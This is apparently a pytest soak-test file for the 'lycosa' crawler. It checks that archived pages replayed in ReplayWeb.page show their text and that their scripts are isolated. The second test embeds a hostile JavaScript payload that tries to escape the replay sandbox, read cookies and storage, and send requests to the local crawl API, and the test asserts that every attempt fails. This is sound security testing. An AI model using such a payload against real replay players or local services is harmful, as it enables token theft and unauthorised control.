"""Archived pages in ReplayWeb.page in Chromium: they show their text; their scripts get nothing.

The player is npm's (`replayweb`). The house is `lycosa serve` on another port, open in a tab of the
same browser, with its token.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote

import pytest
import uvicorn
from playwright.sync_api import Browser
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import FileResponse, HTMLResponse
from starlette.routing import Route

from browser import chromium
from integration.archived_pages import archived
from integration.listed_orders import list_orders
from integration.replayed_crawl import crawled, replaying
from integration.small_servers import serving_site
from lycosa.cli.main import main
from lycosa.storage.archive.reader import table
from replayweb import player
from served_crawl import TOKEN, serving
from warm import lycosa

__all__ = ["crawled"]

pytestmark = [pytest.mark.soak, pytest.mark.needs("chromium", "npm")]
PAGES = 20


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with chromium(tmp_path_factory.mktemp("chromium")) as found:
        yield found


# -- twenty pages --------------------------------------------------------------------------

SHELL = """<!doctype html><html><script src="/replay/ui.js"></script>
<replay-web-page source="/crawl.wacz" replayBase="/replay/" deepLink></replay-web-page></html>"""


@contextmanager
def anywhere(wacz: Path) -> Iterator[str]:
    """Serve a WACZ file and the player as any web server does; gives the address."""

    async def file(request: Request) -> FileResponse:
        return FileResponse(wacz)

    async def part(request: Request) -> FileResponse:
        return FileResponse(player() / request.path_params["name"])

    async def shell(request: Request) -> HTMLResponse:
        return HTMLResponse(SHELL)

    routes = [Route("/crawl.wacz", file), Route("/replay/{name}", part), Route("/", shell)]
    server = uvicorn.Server(uvicorn.Config(Starlette(routes=routes), port=0, log_config=None))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}/"
    finally:
        server.should_exit = True
        thread.join(30)


def words(text: str) -> str:
    return " ".join(text.split())


def test_twenty_pages_of_an_exported_file_show_their_text(
    browser: Browser, crawled: Path, tmp_path: Path
) -> None:
    target = tmp_path / "crawl.wacz"
    assert lycosa("export", "wacz", crawled, "-o", target).returncode == 0
    texts = table(crawled, "text", ["url", "text"]).to_pylist()
    chosen = [row for row in texts if row["text"].strip()][:PAGES]
    assert len(chosen) == PAGES
    with anywhere(target) as address, browser.new_page() as page:
        page.goto(address)
        for row in chosen:
            page.evaluate("(url) => { location.hash = `url=${url}` }", quote(row["url"], safe=""))
            frame = archived(page, row["url"])
            seen = words(frame.evaluate("document.body.innerText"))
            assert words(row["text"])[:60] in seen


# -- a hostile archived page -----------------------------------------------------------------

ATTACK = """(async () => {
  const got = {};
  const attempt = async (name, act) => {
    const late = new Promise((_, no) => setTimeout(no, 3000));
    try { got[name] = (await Promise.race([act(), late])) ?? null; } catch { got[name] = null; }
  };
  const loaded = (one, kind, url) => new Promise((yes, no) => {
    const made = one.document.createElement(kind);
    made._no_rewrite = true;  // the player leaves such an element as it is
    made.onload = () => yes("loaded"); made.onerror = no;
    made[kind === "link" ? "href" : "src"] = url;
    if (kind === "link") made.rel = "stylesheet";
    one.document.body.append(made);
  });
  const worker = (one, url) => new Promise((yes, no) => {
    const code = `fetch("${url}", {mode: "no-cors"}).then(() => postMessage("sent"), close)`;
    const blob = new one.Blob([code], {type: "text/javascript"});
    const made = new one.Worker(one.URL.createObjectURL(blob));
    made.onmessage = (event) => yes(event.data); made.onerror = no;
  });
  const frame = document.createElement("iframe");
  document.body.append(frame);
  // The player puts another window in the place of the parent; this is the real one.
  const real = Object.getOwnPropertyDescriptor(window, "parent").get.call(window);
  const windows = {own: window, frame: frame.contentWindow, real, top: real.parent};
  for (const [name, one] of Object.entries(windows)) {
    for (const [target, base] of Object.entries({house: HOUSE, other: OTHER})) {
      const url = (kind) => `${base}/api/v1/crawls?${name}-${kind}`;
      const of = (kind) => `${name} ${target} ${kind}`;
      await attempt(of("fetch"), async () => (await one.fetch(url("fetch"))).text());
      await attempt(of("page"), async () => (await one.fetch(`${base}/crawl/site/now`)).text());
      const order = {method: "POST", mode: "no-cors"};
      await attempt(of("order"), async () =>
        (await one.fetch(`${base}/api/v1/crawls/site/pause`, order)).text());
      await attempt(of("socket"), () => new Promise((yes, no) => {
        const made = new one.WebSocket(url("socket").replace("http", "ws"));
        made.onmessage = (event) => yes(event.data); made.onerror = no; }));
      await attempt(of("beacon"), async () => { one.navigator.sendBeacon(url("beacon"), "x"); });
      await attempt(of("worker"), () => worker(one, url("worker")));
      for (const kind of ["img", "script", "link"]) {
        await attempt(of(kind), () => loaded(one, kind, url(kind)));
      }
      await attempt(of("frame"), async () => {
        const made = one.document.createElement("iframe");
        made._no_rewrite = true; made.src = `${base}/crawl/site/now`;
        one.document.body.append(made);
        await new Promise((resolve) => { made.onload = resolve; });
        return made.contentDocument.body.textContent;
      });
      await attempt(of("form"), async () => {
        const made = one.document.createElement("form");
        made._no_rewrite = true; made.method = "post"; made.action = url("form");
        made.target = "_blank"; one.document.body.append(made); made.submit();
      });
    }
    await attempt(`${name} cookie`, async () => one.document.cookie);
    await attempt(`${name} local`, async () => JSON.stringify(one.localStorage));
    await attempt(`${name} session`, async () => JSON.stringify(one.sessionStorage));
    await attempt(`${name} opener`, async () => one.opener && one.opener.location.href);
    for (const path of ["/api/v1/crawls", "/sparql?query=ASK{}", "/control.sock", "/live.json"]) {
      await attempt(`${name} own ${path}`, async () => {
        const answer = await one.fetch(REPLAY() + path);
        return answer.ok ? answer.text() : null;
      });
    }
  }
  document.documentElement.dataset.got = JSON.stringify(got);
})();"""


def test_a_script_of_an_archived_page_gets_nothing(browser: Browser, tmp_path: Path) -> None:
    asked: list[str] = []
    folder = tmp_path / "site"

    def other(path: str) -> tuple[int, str]:
        asked.append(path)
        return 200, "other"

    def hostile(path: str) -> tuple[int, str]:
        if path == "/robots.txt":
            return 404, ""
        known = f"const HOUSE = '{house}', OTHER = 'http://127.0.0.1:{port}';"
        known += "const REPLAY = () => 'http://' + document.documentElement.dataset.replay;"
        return 200, (
            "<!doctype html><title>hostile</title><p>A page with words that are worth keeping.</p>"
            f"<a href=/>home</a><script>function attack() {{ {known}{ATTACK} }}</script>"
        )

    with serving_site(other) as port, serving(tmp_path) as house:
        with serving_site(hostile) as site:
            seed = f"http://127.0.0.1:{site}/"
            words = ["crawl", seed, "-o", str(folder), "--quiet", "--delay", "0.01s"]
            assert main([*words, "--set", "frontier.partitions=4"]) == 0
        with (
            replaying(folder, player()) as replay,
            browser.new_context() as context,
            context.new_page() as tab,
            context.new_page() as page,
        ):
            tab.goto(f"{house}/crawl/site/now#token={TOKEN}")
            tab.locator("#figures dd").first.wait_for()
            tab.evaluate("localStorage.setItem('of-the-house', 'secret')")
            page.goto(f"http://replay.localhost:{replay}/")
            frame = archived(page, seed)
            frame.evaluate(f"document.documentElement.dataset.replay = 'replay.localhost:{replay}'")
            frame.evaluate("attack()")
            frame.wait_for_selector("html[data-got]", state="attached", timeout=300_000)
            got = json.loads(frame.evaluate("document.documentElement.dataset.got"))
    assert len(got) > 100
    assert asked == []
    told = json.dumps(got)
    for secret in (TOKEN, "of-the-house", "secret", '"name": "site"'):
        assert secret not in told
    real = {name: found for name, found in got.items() if name.startswith(("real", "top"))}
    allowed = ("cookie", "local", "session")
    assert {
        name for name, found in real.items() if found and name.split()[1] not in allowed
    } == set()
    assert list_orders(folder) == []
